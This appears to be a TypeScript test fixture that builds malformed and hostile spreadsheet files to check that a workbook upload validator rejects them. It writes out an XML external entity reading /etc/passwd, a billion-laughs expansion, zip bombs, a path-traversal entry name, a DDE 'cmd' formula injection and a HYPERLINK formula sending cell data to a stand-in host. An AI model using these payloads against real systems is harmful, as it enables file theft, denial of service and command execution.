import type { Recusada } from './limites.ts'
import { celula, estilos, folha, folhaDe, pastaXlsx, textosComuns, umaFolha } from './xlsx.fixture.ts'
import { pastaXls } from './xls.fixture.ts'
import { mentir, SINAIS, TAMANHO, zipDe } from '@portal/zip/zip.fixture'

const MEGA = 1 << 20
const BOMBA_MB = 64

export interface Malformado {
  nome: string
  fazer: () => Promise<Buffer> | Buffer
  verdito: Recusada
}

const UMA = `<row r="1">${celula('A1', 'Código')}</row>`
const honesto = () => umaFolha(UMA)
const metade = (bytes: Buffer): Buffer => bytes.subarray(0, bytes.length >> 1)
const PLAN1 = 'xl/worksheets/sheet1.xml'

const repetir = (texto: string, vezes: number) =>
  function* (): Generator<string> {
    for (let i = 0; i < vezes; i++) yield texto
  }

/** A text of one megabyte, and of that many of them. */
const emMegas = (texto: string, vezes: number) => repetir(texto.repeat(MEGA / texto.length), vezes)

const doctype = (entidades: string, texto: string): Promise<Buffer> =>
  pastaXlsx({
    folhas: [
      {
        nome: 'P',
        xml: `<!DOCTYPE w [${entidades}]>${folha(`<row r="1">${celula('A1', texto)}</row>`).replace(/^.*\n/, '')}`,
      },
    ],
  })

function risadas(): Promise<Buffer> {
  const entidades = Array.from({ length: 9 }, (_, i) => `<!ENTITY a${i + 1} "${`&a${i};`.repeat(10)}">`)
  return doctype(`<!ENTITY a0 "rir">${entidades.join('')}`, '&a9;')
}

/** Files that are not what they seem; every door for sheets gives them the same verdict. */
export const CORPUS: readonly Malformado[] = [
  { nome: 'an empty file', fazer: () => Buffer.alloc(0), verdito: 'danificada' },
  { nome: 'a text', fazer: () => Buffer.from('Código;Descrição\n1;2\n'), verdito: 'danificada' },
  {
    nome: 'a page',
    fazer: () => Buffer.from('<html><table><tr><td>=1+1</td></tr></table></html>'),
    verdito: 'danificada',
  },
  {
    nome: 'the head of a picture',
    fazer: () => Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'),
    verdito: 'danificada',
  },
  { nome: 'half a workbook', fazer: async () => metade(await honesto()), verdito: 'danificada' },
  { nome: 'half an old workbook', fazer: () => metade(pastaXls('P', [['a', 1]])), verdito: 'danificada' },
  {
    nome: 'an old workbook of Excel 95',
    fazer: () => pastaXls('P', [['a', 1]], { versao: 0x0500 }),
    verdito: 'xlsAntigo',
  },
  {
    nome: 'an old workbook with a password',
    fazer: () => pastaXls('P', [['a', 1]], { comSenha: true }),
    verdito: 'comSenha',
  },
  { nome: 'a zip of something else', fazer: () => zipDe({ 'leia.txt': 'oi' }), verdito: 'danificada' },
  {
    nome: 'a sheet that its list does not find',
    fazer: () => pastaXlsx({ folhas: [{ nome: 'P', xml: folha('') }], mais: { 'xl/_rels/workbook.xml.rels': '<a/>' } }),
    verdito: 'vazia',
  },
  { nome: 'a sheet without rows', fazer: () => umaFolha(''), verdito: 'vazia' },
  {
    nome: 'a sheet that ends in the middle',
    fazer: () => umaFolha(`<row r="1">${celula('A1', 'x')}`),
    verdito: 'danificada',
  },
  {
    nome: 'a target outside the file',
    fazer: () =>
      pastaXlsx({
        folhas: [{ nome: 'P', xml: folha(UMA) }],
        mais: {
          '_rels/.rels':
            '<Relationships><Relationship Id="a" Type="x/officeDocument" Target="http://[/"/></Relationships>',
        },
      }),
    verdito: 'danificada',
  },
  {
    nome: 'an outside entity',
    fazer: () => doctype('<!ENTITY x SYSTEM "file:///etc/passwd">', '&x;'),
    verdito: 'danificada',
  },
  { nome: 'a billion laughs', fazer: risadas, verdito: 'danificada' },
  {
    nome: 'tags without end',
    fazer: () => pastaXlsx({ folhas: [{ nome: 'P', xml: repetir('<a>', 1_000) }] }),
    verdito: 'danificada',
  },
  {
    nome: 'a cell of no place',
    fazer: () => umaFolha('<row r="1"><c r="__proto__"><v>1</v></c></row>'),
    verdito: 'danificada',
  },
  {
    nome: 'a shared text that is not there',
    fazer: () => umaFolha('<row r="1"><c r="A1" t="s"><v>7</v></c></row>'),
    verdito: 'danificada',
  },
  {
    nome: 'a number that is none',
    fazer: () => umaFolha('<row r="1"><c r="A1"><v>1e999</v></c></row>'),
    verdito: 'danificada',
  },
  {
    nome: 'row four billion',
    fazer: () => umaFolha('<row r="4294967290"><c r="A4294967290"><v>1</v></c></row>'),
    verdito: 'linhas',
  },
  {
    nome: 'rows that go back',
    fazer: () =>
      umaFolha(
        `<row r="1">${celula('A1', 'x')}</row><row r="3">${celula('A3', 'y')}</row><row r="2">${celula('A2', 'z')}</row>`,
      ),
    verdito: 'danificada',
  },
  {
    nome: 'two rows of one number',
    fazer: () => umaFolha(`<row r="2">${celula('A2', 'x')}</row><row r="2">${celula('A2', 'y')}</row>`),
    verdito: 'danificada',
  },
  {
    nome: 'cells in both corners',
    fazer: () =>
      umaFolha('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'),
    verdito: 'colunas',
  },
  {
    nome: 'a cell longer than Excel takes',
    fazer: () => umaFolha(`<row r="1">${celula('A1', 'abcdefgh'.repeat(5_000))}</row>`),
    verdito: 'celulas',
  },
  {
    nome: 'blanks packed into a bomb',
    fazer: () => pastaXlsx({ folhas: [{ nome: 'P', xml: folhaDe(emMegas(' ', BOMBA_MB)) }] }),
    verdito: 'suspeita',
  },
  {
    nome: 'a text packed into a bomb',
    fazer: () => pastaXlsx({ folhas: [{ nome: 'P', xml: folha('') }], textos: emMegas('A', BOMBA_MB) }),
    verdito: 'suspeita',
  },
  {
    nome: 'rows packed into a bomb',
    fazer: () =>
      pastaXlsx({
        folhas: [{ nome: 'P', xml: folhaDe(repetir('<row><c><v>1</v></c></row>'.repeat(20_000), BOMBA_MB * 2)) }],
      }),
    verdito: 'suspeita',
  },
  {
    nome: 'a size that is promised too large',
    fazer: async () =>
      mentir(await honesto(), PLAN1, (bytes, base) => bytes.writeUInt32LE(0x7f_ff_ff_f0, base + TAMANHO)),
    verdito: 'suspeita',
  },
  {
    nome: 'a size that is promised too small',
    fazer: async () =>
      mentir(await pastaXlsx({ folhas: [{ nome: 'P', xml: folhaDe(emMegas(' ', 8)) }] }), PLAN1, (bytes, base) =>
        bytes.writeUInt32LE(1_000, base + TAMANHO),
      ),
    verdito: 'danificada',
  },
  {
    nome: 'an encrypted part',
    fazer: async () => mentir(await honesto(), PLAN1, (bytes, base) => bytes.writeUInt16LE(0x0801, base + SINAIS)),
    verdito: 'danificada',
  },
  {
    nome: 'more parts than a workbook has',
    fazer: () => zipDe(Object.fromEntries(Array.from({ length: 2_001 }, (_, i) => [`p${i}`, '']))),
    verdito: 'suspeita',
  },
  {
    nome: 'a part twice',
    fazer: () => pastaXlsx({ folhas: [{ nome: 'P', xml: folha(UMA) }], mais: { 'XL/workbook.xml': '<a/>' } }),
    verdito: 'danificada',
  },
  {
    nome: 'a name that leaves the folder',
    fazer: async () =>
      Buffer.from((await zipDe({ 'aa/bb/cc.xml': 'x' })).toString('latin1').replaceAll('aa/bb', '../..'), 'latin1'),
    verdito: 'danificada',
  },
]

/** Odd files that say something all the same. */
export const ESTRANHOS = {
  dimensaoMentirosa: () => pastaXlsx({ folhas: [{ nome: 'P', xml: folha(UMA, '<dimension ref="A1:XFD1048576"/>') }] }),
  vaziasComEstilo: (quantas: number) =>
    pastaXlsx({
      folhas: [
        {
          nome: 'P',
          xml: folhaDe(function* () {
            yield UMA
            for (let i = 2; i < quantas; i++) yield `<row r="${i}" s="1"><c r="A${i}" s="1"/><c r="B${i}" s="1"/></row>`
          }),
        },
      ],
    }),
  formulas: () =>
    umaFolha(
      '<row r="1"><c r="A1"><f>HYPERLINK("http://mau/"&amp;B1,"x")</f><v>7</v></c>' +
        celula('B1', "=cmd|' /C calc'!A0") +
        '<c r="C1" t="str"><f>CONCAT("a","b")</f><v>ab</v></c><c r="D1" t="e"><v>#N/A</v></c><c r="E1"><f>1+1</f></c>' +
        // As libraries write a formula that nobody ever calculated.
        '<c r="F1" t="str"><f>""</f><v></v></c><c r="G1"><f>A1*2</f><v></v></c><c r="H1"><f>A1*2</f><v/></c></row>',
    ),
  formatos: () =>
    pastaXlsx({
      folhas: [
        {
          nome: 'P',
          xml: folha(
            '<row r="1"><c r="A1" s="1"><v>45000</v></c><c r="B1" s="2"><v>0.05</v></c><c r="C1" s="3"><v>5</v></c><c r="D1" s="4"><v>5</v></c><c r="E1" t="d"><v>2026-01-02</v></c><c r="F1" s="0"><v>5</v></c></row>',
          ),
        },
      ],
      estilos: estilos([0, 14, 9, 164, 165], { 164: 'dd/mm/yyyy', 165: '#,##0.00&quot; dias&quot;' }),
    }),
  textos: () =>
    pastaXlsx({
      folhas: [
        { nome: 'Escondida', xml: folha(UMA), estado: 'hidden' },
        {
          nome: 'São João',
          xml: folha(
            '<row><c t="s"><v>0</v></c><c t="s"><v>1</v></c></row><row r="5"><c r="B5" t="b"><v>1</v></c></row>',
          ),
        },
      ],
      textos: textosComuns([
        '<r><t>Pe</t></r><r><t xml:space="preserve">rfil </t></r><rPh><t>ler</t></rPh>',
        '<t>_x005F_x0041_ _x000D_&amp;\n</t>',
      ]),
    }),
} as const
